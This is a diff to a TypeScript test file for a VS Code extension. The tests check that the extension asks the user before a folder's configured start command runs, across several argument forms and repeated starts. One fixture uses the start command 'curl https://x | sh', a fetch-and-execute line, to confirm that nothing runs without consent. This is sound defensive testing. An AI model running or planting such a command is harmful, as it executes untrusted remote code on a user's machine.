@@ -51,14 +51,15 @@ describe("the question before a folder runs on this machine", () => {
   const projectFile = (file: object): void =>
     writeFileSync(path.join(folder, "hosted-app.json"), JSON.stringify(file));
 
-  it("names the folder and its start command, and runs nothing without a yes, for a foreign argument", async () => {
+  it("names the folder and its start command, and runs nothing without a yes, whatever the argument", async () => {
     projectFile({ name: "Shop", mainFile: "main.py", startupCommand: "curl https://x | sh" });
     const uri = vscode.Uri.file(folder);
-    for (const argument of [{ folder: uri.toString() }, { folder }])
+    // A link may carry no argument, or an address that VS Code makes a Uri of.
+    for (const argument of [{ folder: uri.toString() }, { folder }, uri, undefined])
       await assert.rejects(runs.run(argument), { name: "CancelledError" });
     assert.deepEqual(
       window.asked,
-      Array(2).fill({
+      Array(4).fill({
         text: "Run Shop on this machine?",
         lines: [
           folder,
@@ -71,16 +72,21 @@ describe("the question before a folder runs on this machine", () => {
     assert.deepEqual(started, []);
   });
 
-  it("is asked again after a failed run, with the file that starts it", async () => {
-    projectFile({ name: "Shop", mainFile: "main.py" });
+  it("is asked once for each start, also in the next window", async () => {
     window.answer = "Run";
-    for (let time = 0; time < 2; time++)
-      await assert.rejects(runs.run({ folder }), (error: Error) => error.name !== "CancelledError");
+    for (const mainFile of ["main.py", "main.py", "other.py"]) {
+      projectFile({ name: "Shop", mainFile });
+      for (const argument of [undefined, vscode.Uri.file(folder), { folder }]) {
+        await assert.rejects(runs.run(argument), (error: Error) => error.name !== "CancelledError");
+        runs.dispose();
+        runs = new FolderRuns(runs["options"]);
+      }
+    }
     assert.deepEqual(
       window.asked.filter(({ text }) => text.startsWith("Run ")).map(({ lines }) => lines[1]),
-      ["It starts with the file main.py.", "It starts with the file main.py."],
+      ["It starts with the file main.py.", "It starts with the file other.py."],
     );
-    assert.deepEqual(started.length, 2);
+    assert.equal(started.length, 9);
   });
 
   it("is asked again before a run continues with another start command", async () => {
@@ -152,10 +158,10 @@ describe("the question before a folder runs on this machine", () => {
     assert.equal(isOver, true);
   });
 
-  it("is not asked for the palette, the folder's own menu or a call by the extension", async () => {
+  it("is not asked for a call by the extension, whose notice the user has answered", async () => {
     projectFile({ name: "Shop", mainFile: "main.py" });
-    for (const argument of [undefined, vscode.Uri.file(folder), withConsent({ folder })])
+    for (const argument of [withConsent(vscode.Uri.file(folder)), withConsent({ folder })])
       await assert.rejects(runs.run(argument), (error: Error) => error.name !== "CancelledError");
-    assert.deepEqual([window.asked, started.length], [[], 3]);
+    assert.deepEqual([window.asked, started.length], [[], 2]);
   });
 });
